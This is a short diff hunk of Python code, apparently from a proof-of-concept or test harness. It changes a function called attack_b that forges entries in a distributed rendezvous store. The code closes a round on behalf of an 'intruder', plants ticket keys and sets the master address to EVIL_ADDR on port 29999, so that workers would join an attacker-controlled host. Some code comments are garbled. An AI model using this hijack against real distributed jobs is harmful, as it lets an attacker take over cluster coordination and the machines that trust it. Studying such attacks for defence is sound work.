@@ -224,8 +224,8 @@ def attack_b(w, pfx):
     # The closed round (rendezvous/round_int.h): the two agents will draw
     # tickets 2 and 3, closer "1" (the intruder) placed them, and the
     # worker store the head names is the intruder's.
-    w.set(f"{pfx}/r{nxt}/a/1/2", "0 0 2")
-    w.set(f"{pfx}/r{nxt}/a/1/3", "1 1 2")
+    w.set(f"{pfx}/r{nxt}/a/2", "0 0 2")
+    w.set(f"{pfx}/r{nxt}/a/3", "1 1 2")
     w.set(f"{pfx}/r{nxt}/closed",
           '{"attempt":1,"by":1,"nodes":2,"ma":"%s","mp":29999,"sh":""}' % EVIL_ADDR)
     w.set(f"{pfx}/r{rd}/change", "restart intruder")
